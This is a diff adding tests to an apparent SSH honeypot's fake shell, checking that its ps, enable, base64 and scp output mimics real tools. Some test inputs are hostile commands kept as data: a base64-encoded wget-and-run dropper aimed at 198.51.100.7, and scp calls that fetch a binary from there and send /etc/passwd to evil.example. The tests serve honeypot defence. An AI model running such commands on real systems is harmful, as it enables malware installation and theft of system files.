@@ -122,6 +122,107 @@ describe("the fake shell", () => {
   });
 });
 
+describe("commands bots use to tell a honeypot", () => {
+  test("ps aux has BSD's columns, ps -ef UNIX's, over one process table; a terminal cuts lines at 80", () => {
+    const sh = shell();
+    const pid = sh.pid;
+    const aux = sh.run("ps aux").stdout.split("\n");
+    expect(aux[0]).toBe("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND");
+    // Boot processes started on a day before today, shown as procps shows one: "Oct14".
+    expect(aux[1]).toMatch(/^root {11}1 {2}0\.0 {2}0\.6 167740 12156 \? {8}Ss {3}[A-Z][a-z]{2}\d\d {3}0:09 \/sbin\/init$/);
+    expect(aux.slice(-4)).toEqual([
+      `root    ${String(pid - 3).padStart(8)}  0.0  0.3  17900  6520 ?        Ss   01:07   0:00 sshd: root@pts/0`,
+      `root    ${String(pid).padStart(8)}  0.0  0.2   7968  4620 pts/0    Ss   01:07   0:00 -bash`,
+      `root    ${String(pid + 7).padStart(8)}  0.0  0.2  11084  4460 pts/0    R+   01:07   0:00 ps aux`,
+      "",
+    ]);
+    expect(aux).toContain("message+     502  0.0  0.2   9116  4780 ?        Ss   " + aux[1]!.slice(54, 59) + "   0:00 /usr/bin/dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only");
+    const ef = sh.run("ps -ef").stdout.split("\n");
+    expect(ef[0]).toBe("UID          PID    PPID  C STIME TTY          TIME CMD");
+    expect(ef.slice(-3)).toEqual([`root    ${String(pid).padStart(8)} ${String(pid - 3).padStart(7)}  0 01:07 pts/0    00:00:00 -bash`, `root    ${String(pid + 7).padStart(8)} ${String(pid).padStart(7)}  0 01:07 pts/0    00:00:00 ps -ef`, ""]);
+    // procps reads `-aux` as `aux`, while `-u root` stays UNIX's user selection.
+    expect(sh.run("ps -aux | head -n 1; ps aux --sort=-%mem | head -n 1; ps -u root | head -n 1").stdout).toBe(`${aux[0]}\n${aux[0]}\n    PID TTY          TIME CMD\n`);
+    expect(sh.run("ps ax | head -n 1; ps").stdout).toBe(`    PID TTY      STAT   TIME COMMAND\n    PID TTY          TIME CMD\n${String(pid).padStart(7)} pts/0    00:00:00 bash\n${String(pid + 7).padStart(7)} pts/0    00:00:00 ps\n`);
+    // BSD selection: without `a` only the user's own processes, without `x` only those on a terminal.
+    const user = shell({ username: "admin" });
+    expect(user.run("ps u").stdout.split("\n").map((l) => l.slice(0, 16))).toEqual(["USER         PID", `admin   ${String(user.pid).padStart(8)}`, `admin   ${String(user.pid + 7).padStart(8)}`, ""]);
+    expect(user.run("ps aux | grep sshd: | wc -l").stdout).toBe("3\n");
+    const lengths = (text: string) => Math.max(...text.split("\n").map((l) => l.length));
+    expect(lengths(shell({ tty: true }).run("ps aux").stdout)).toBe(80);
+    expect(lengths(shell({ tty: true }).run("ps auxww").stdout)).toBeGreaterThan(132);
+  });
+
+  test("enable lists bash 5.2's builtins as enable -a does and takes builtin names silently", () => {
+    const sh = shell();
+    const list = sh.run("enable").stdout.split("\n");
+    expect(list.length - 1).toBe(61);
+    expect(list.slice(0, 5)).toEqual(["enable .", "enable :", "enable [", "enable alias", "enable bg"]);
+    expect(sh.run("enable -a").stdout).toBe(list.join("\n"));
+    expect(sh.run("enable -s | wc -l; enable echo; enable -n test; echo $?").output).toBe("16\n0\n");
+    expect(sh.run("enable ls")).toMatchObject({ stderr: "-bash: enable: ls: not a shell builtin\n", status: 1 });
+    expect(sh.run("enable -z")).toMatchObject({ stderr: "-bash: enable: -z: invalid option\nenable: usage: enable [-a] [-dnps] [-f filename] [name ...]\n", status: 2 });
+    expect(sh.run("enable -f x.so x").stderr).toBe("-bash: enable: cannot open shared object x.so: x.so: cannot open shared object file: No such file or directory\n");
+    expect(sh.run("which enable; type -t enable 2>/dev/null").stdout).toBe("");
+  });
+
+  test("base64 encodes and decodes stdin and files as GNU coreutils, with its errors", () => {
+    const sh = shell();
+    expect(sh.run("printf 'hello world' | base64; printf 'hello world' | base64 -w 4; printf '' | base64; echo hi | base64 -w0").stdout).toBe(
+      "aGVsbG8gd29ybGQ=\naGVs\nbG8g\nd29y\nbGQ=\naGkK",
+    );
+    expect(sh.run(`printf '%s' ${"a".repeat(100)} | base64`).stdout).toBe(`${"YWFh".repeat(19)}\n${"YWFh".repeat(14)}YQ==\n`);
+    expect(sh.run("cd /tmp; echo secret > f; base64 f > f.b64; base64 --decode f.b64; base64 -d - < f.b64").stdout).toBe("secret\nsecret\n");
+    expect(sh.run("printf 'aGVs\\nbG8=\\n' | base64 -d; echo aGk=aGk= | base64 -d").stdout).toBe("hellohihi");
+    // Decoding stops at the first bad character, keeping what came before it; -i skips such characters.
+    expect(sh.run("echo 'aGk=YQ' | base64 -d")).toMatchObject({ stdout: "hia", stderr: "base64: invalid input\n", status: 1 });
+    expect(sh.run("echo 'a!Gk=' | base64 -d")).toMatchObject({ stdout: "", stderr: "base64: invalid input\n", status: 1 });
+    expect(sh.run("echo 'a!Gk=' | base64 -di")).toMatchObject({ stdout: "hi", stderr: "", status: 0 });
+    const errors = ["base64 a b", "base64 nofile", "base64 /tmp", "base64 -w x", "base64 -w", "base64 -z", "base64 --foo"].map((c) => sh.run(c)).map((r) => [r.stderr, r.status]);
+    const tryHelp = "Try 'base64 --help' for more information.\n";
+    expect(errors).toEqual([
+      [`base64: extra operand ‘b’\n${tryHelp}`, 1],
+      ["base64: nofile: No such file or directory\n", 1],
+      ["base64: read error: Is a directory\n", 1],
+      ["base64: invalid wrap size: ‘x’\n", 1],
+      [`base64: option requires an argument -- 'w'\n${tryHelp}`, 1],
+      [`base64: invalid option -- 'z'\n${tryHelp}`, 1],
+      [`base64: unrecognized option '--foo'\n${tryHelp}`, 1],
+    ]);
+    expect(sh.run("base64 --version | head -n 1; which base64").stdout).toBe("base64 (GNU coreutils) 9.1\n/usr/bin/base64\n");
+  });
+
+  test("a base64 dropper runs through the shell and its download is recorded", () => {
+    const r = shell().run("echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC43L2Iuc2g7IHNoIGIuc2gK | base64 -d | sh");
+    expect(r.effects).toEqual([{ kind: "file_download", url: "http://198.51.100.7/b.sh" }]);
+    expect(r.stderr).toBe("--2026-11-22 01:07:41--  http://198.51.100.7/b.sh\nConnecting to 198.51.100.7:80... failed: Connection refused.\nbash: b.sh: No such file or directory\n");
+  });
+
+  test("scp: OpenSSH's usage, a refused connection for another host (sources recorded), cp for local copies", () => {
+    const sh = shell();
+    const usage =
+      "usage: scp [-346ABCOpqRrsTv] [-c cipher] [-D sftp_server_path] [-F ssh_config]\n" +
+      "           [-i identity_file] [-J destination] [-l limit] [-o ssh_option]\n" +
+      "           [-P port] [-S program] [-X sftp_option] source ... target\n";
+    expect(sh.run("scp")).toMatchObject({ stdout: "", stderr: usage, status: 1, effects: [] });
+    expect(sh.run("scp -r onlyone")).toMatchObject({ stderr: usage, status: 1 });
+    expect(sh.run("scp -z a b").stderr).toBe(`scp: unknown option -- z\r\n${usage}`);
+    expect(sh.run("scp -P 2222 root@198.51.100.7:/tmp/m.arm evil.example:x /tmp/")).toMatchObject({
+      stderr: "ssh: connect to host 198.51.100.7 port 2222: Connection refused\r\nscp: Connection closed\r\n",
+      status: 255,
+      effects: [
+        { kind: "file_download", url: "scp://root@198.51.100.7:2222/tmp/m.arm" },
+        { kind: "file_download", url: "scp://evil.example:2222/x" },
+      ],
+    });
+    expect(sh.run("scp /etc/passwd bot@evil.example:")).toMatchObject({
+      stderr: "ssh: Could not resolve hostname evil.example: Temporary failure in name resolution\r\nscp: Connection closed\r\n",
+      effects: [],
+    });
+    expect(sh.run("cd /tmp; echo x > a; scp a b && cat b; scp nofile c").output).toBe("x\ncp: cannot stat 'nofile': No such file or directory\n");
+    expect(sh.run("which scp").stdout).toBe("/usr/bin/scp\n");
+  });
+});
+
 describe("the line editor", () => {
   function feed(editor: LineEditor, bytes: string | number[]): LineEvent[] {
     const data = typeof bytes === "string" ? Buffer.from(bytes, "latin1") : Uint8Array.from(bytes);
